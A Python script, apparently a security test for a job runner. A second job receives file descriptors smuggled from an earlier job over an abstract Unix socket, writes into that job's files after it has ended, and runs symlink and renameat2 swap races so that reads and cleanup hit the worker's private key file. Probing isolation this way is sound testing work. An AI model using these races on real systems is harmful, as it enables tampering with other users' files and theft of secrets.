"""Take a descriptor of job A's files at an abstract socket, and use it once A is dead (job B).

argv: the name of the socket, a private directory of the worker's user, how long to wait for A, in
seconds.
"""

import ctypes
import os
import socket
import stat
import sys
import time

ATTACK_S, REMOVAL_S = 2, 15
RENAME_EXCHANGE = 2  # of renameat2(2)


def swap(directory: int, name: str, target: str) -> None:
    """Put a symlink to `target` where `name` is, then the old one again."""
    os.symlink(target, ".link", dir_fd=directory)
    os.rename(name, ".away", src_dir_fd=directory, dst_dir_fd=directory)
    os.rename(".link", name, src_dir_fd=directory, dst_dir_fd=directory)
    os.unlink(name, dir_fd=directory)
    os.rename(".away", name, src_dir_fd=directory, dst_dir_fd=directory)


def use(given: int, home: str) -> None:
    if not stat.S_ISDIR(os.fstat(given).st_mode):
        os.pwrite(given, b"CHANGED AFTERWARDS", 0)
        time.sleep(ATTACK_S)  # it stays open
        os.pwrite(given, b"CHANGED EVEN LATER", 0)
        print("wrote into a file after the end")
    elif "shm" in os.readlink(f"/proc/self/fd/{given}") or not os.path.exists(f"/proc/self/fd/{given}/z-result"):
        swap_all(given, home)
    else:
        swap_result(given, home)


def swap_result(given: int, home: str) -> None:
    """While it is being read."""
    deadline = time.monotonic() + ATTACK_S
    while time.monotonic() < deadline:
        swap(given, "z-directory", home)
        swap(given, "z-result", f"{home}/key")
    print("could be changed to the last")


def swap_all(given: int, home: str) -> None:
    """Exchange directories and links until they are removed, so that a listing is never right."""
    rename = ctypes.CDLL(None).renameat2
    pairs = [(name, b"link-" + name) for name in map(os.fsencode, os.listdir(given)) if not name.startswith(b"link-")]
    deadline, swapped, before = time.monotonic() + REMOVAL_S, 0, -1
    while swapped > before and time.monotonic() < deadline:
        before = swapped
        for name, link in pairs:
            swapped += rename(given, name, given, link, RENAME_EXCHANGE) == 0
    print("swapped", swapped, "until they were removed" if swapped == before else "in vain")


def prepare(given: int, home: str) -> None:
    """Put a link to `home` beside each directory in a job's /dev/shm, while that job still runs."""
    if os.fstat(given).st_mode & 0o1777 == 0o1777:
        for name in os.listdir(given):
            os.symlink(home, f"link-{name}", dir_fd=given)


def main(name: str, home: str, patience_s: float) -> None:
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind("\0" + name)
    listener.listen()
    listener.settimeout(patience_s)
    try:
        connection, _ = listener.accept()
    except TimeoutError:
        print("nobody came")
        return
    _, descriptors, _, _ = socket.recv_fds(connection, 10, 4)
    prepare(descriptors[0], home)
    connection.send(b"k")
    while connection.recv(1):
        pass  # until it is dead
    try:
        use(descriptors[0], home)
    except OSError as error:
        print("could not:", error.strerror)


main(sys.argv[1], sys.argv[2], float(sys.argv[3]))
